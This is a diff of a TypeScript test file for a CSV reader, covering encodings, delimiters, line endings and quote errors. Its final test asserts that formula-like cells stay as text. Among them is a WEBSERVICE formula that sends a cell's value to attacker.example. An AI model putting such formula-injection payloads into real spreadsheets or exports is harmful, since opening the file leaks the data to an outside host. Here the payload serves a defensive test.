@@ -6,8 +6,7 @@ import { AppError } from '../../shared/errors';
 import { readCsv } from './readCsv';
 
 const projectRoot = fileURLToPath(new URL('../../../', import.meta.url));
-const fixture = (name: string) =>
-  readFileSync(path.resolve(projectRoot, '../shared/fixtures/csv', name));
+const fixture = (name: string) => readFileSync(path.resolve(projectRoot, 'fixtures/csv', name));
 
 function refusal(run: () => unknown): AppError {
   try {
@@ -21,77 +20,91 @@ function refusal(run: () => unknown): AppError {
 
 describe('readCsv on the fixture files', () => {
   it('reads an Excel "CSV UTF-8" file: BOM dropped, quoted commas, newlines and quotes kept', () => {
-    const table = readCsv(fixture('contacts-excel-utf8-bom.csv'));
+    const table = readCsv(fixture('contacts-utf8-bom-crlf.csv'));
     expect(table.encoding).toBe('utf-8');
     expect(table.hasBom).toBe(true);
     expect(table.delimiter).toBe(',');
     expect(table.columns[0]).toBe('Full name');
     expect(table.rows).toHaveLength(4);
-    expect(table.rows[0]!.cells[2]).toBe('Analytical Engines, Ltd.');
-    expect(table.rows[0]!.cells[3]).toBe('A friend said:\r\n"try it"');
-    expect(table.rows[1]!.cells[0]).toBe('Zoë Brontë');
-    expect(table.rows[2]!.cells[0]).toBe('李小龙');
+    expect(table.rows[0]!.cells[2]).toBe('Compilers, Inc.');
+    expect(table.rows[0]!.cells[3]).toBe('My manager wrote:\r\n"worth a look"');
+    expect(table.rows[1]!.cells[0]).toBe('Frédérique Lemaître');
+    expect(table.rows[2]!.cells[0]).toBe('王小明');
+    expect(table.rows[3]!.cells.slice(0, 4)).toEqual([
+      'Nakamura, Yui',
+      'yui@example.jp',
+      'Nakamura & Daughters',
+      'Meetup, Osaka',
+    ]);
     // The second data row starts on line 4: the quoted newline spans lines 2-3.
-    expect(table.rows.map((r) => r.line).slice(0, 2)).toEqual([2, 4]);
+    expect(table.rows.map((r) => r.line)).toEqual([2, 4, 5, 6]);
   });
 
   it('detects a semicolon-separated European export and leaves numbers and dates as written', () => {
     const table = readCsv(fixture('orders-semicolon-decimal-comma.csv'));
     expect(table.delimiter).toBe(';');
-    expect(table.columns).toEqual(['Name', 'E-Mail', 'Betrag', 'Datum', 'Newsletter']);
-    expect(table.rows.map((r) => r.cells[2])).toEqual(['1.234,50', '89,90', '0,99']);
-    expect(table.rows[0]!.cells[3]).toBe('16.05.2024');
+    expect(table.columns).toEqual(['Name', 'E-Mail', 'Summe', 'Bestelldatum', 'Newsletter']);
+    expect(table.rows.map((r) => r.cells[2])).toEqual(['2.045,75', '12,00', '0,05']);
+    expect(table.rows.map((r) => r.cells[3])).toEqual(['13.02.2025', '21.02.2025', '28.02.2025']);
   });
 
-  it('decodes Windows-1252 punctuation and currency rather than mojibake or control characters', () => {
-    const table = readCsv(fixture('survey-windows-1252.csv'));
+  it('decodes Windows-1252 punctuation, letters and currency rather than mojibake or control characters', () => {
+    const table = readCsv(fixture('feedback-windows-1252.csv'));
     expect(table.encoding).toBe('windows-1252');
-    expect(table.rows[0]!.cells).toEqual(['Renée', '“Great” service – would come back’', '€12']);
-    expect(table.rows[1]!.cells).toEqual(['Søren', 'Ça va… ok', '€7']);
+    expect(table.rows[0]!.cells).toEqual([
+      'Hélène Šimek',
+      '‘Lovely’ breakfast — “would book again”',
+      '€25',
+    ]);
+    expect(table.rows[1]!.cells).toEqual([
+      'François Œuvrard',
+      'Quiet room™… mostly; „fine“ – žero complaints',
+      '€9',
+    ]);
   });
 
   it('reads mixed LF and CRLF line endings with no stray carriage return', () => {
     const table = readCsv(fixture('mixed-line-endings.csv'));
     expect(table.rows).toHaveLength(3);
     for (const row of table.rows) for (const cell of row.cells) expect(cell).not.toMatch(/\r/);
-    expect(table.rows.map((r) => r.cells[2])).toEqual(['10', '7', '8']);
+    expect(table.rows.map((r) => r.cells[2])).toEqual(['3', '12', '0']);
   });
 
   it('refuses an unterminated quote, naming the line where the bad row starts', () => {
-    const error = refusal(() => readCsv(fixture('malformed-unterminated-quote.csv')));
+    const error = refusal(() => readCsv(fixture('unterminated-quote.csv')));
     expect(error.code).toBe('INVALID_INPUT');
     expect(error.message).toMatch(/^Line 3: .*never closed/);
     expect(error.details).toMatchObject({ line: 3, problem: 'CSV_QUOTE_NOT_CLOSED' });
   });
 
   it('decodes Excel "Unicode text" (UTF-16LE, tabs)', () => {
-    const table = readCsv(fixture('excel-unicode-text-utf16le.txt'));
+    const table = readCsv(fixture('unicode-text-utf16le.txt'));
     expect(table.encoding).toBe('utf-16le');
     expect(table.delimiter).toBe('\t');
     expect(table.columns).toEqual(['Name', 'Email', 'City']);
     expect(table.rows.map((r) => r.cells)).toEqual([
-      ['Ana', 'ana@example.com', 'São Paulo'],
-      ['Bo', 'bo@example.com', 'Malmö'],
+      ['Åsa', 'asa@example.se', 'Göteborg'],
+      ['Tomasz', 'tomasz@example.pl', 'Łódź'],
     ]);
   });
 
   it('skips blank lines and the empty trailing column of loose headers', () => {
     const table = readCsv(fixture('loose-headers.csv'));
-    expect(table.columns).toEqual(['  full NAME ', 'e-mail address', 'RATING (1-5)']);
+    expect(table.columns).toEqual([' Full_NAME  ', 'E-mail Address', 'rating (out of 5)']);
     expect(table.rows.map((r) => r.cells)).toEqual([
-      ['Amy Pond', 'amy@example.com', '4'],
-      ['Rory Williams', 'rory@example.com', '5'],
+      ['Petra Novak', 'petra@example.com', '2'],
+      ['Quentin Blake', 'quentin@example.com', '5'],
     ]);
-    expect(table.rows.map((r) => r.line)).toEqual([3, 4]);
+    expect(table.rows.map((r) => r.line)).toEqual([3, 5]);
   });
 
   it('keeps formula-like values as text exactly as written', () => {
     const table = readCsv(fixture('formula-values.csv'));
     expect(table.rows.map((r) => r.cells)).toEqual([
-      ['=HYPERLINK("http://evil.example","click")', '+1+1'],
-      ['@SUM(A1:A2)', '-2+3'],
-      [' =1+1', '\t=cmd'],
-      ['normal', '-5'],
+      ['=WEBSERVICE("http://attacker.example/?q="&A2)', '+7*3'],
+      ['@NOW()', '-3*4'],
+      [' =2*2', '\t@cmd'],
+      ['just text', '-12'],
     ]);
   });
 });
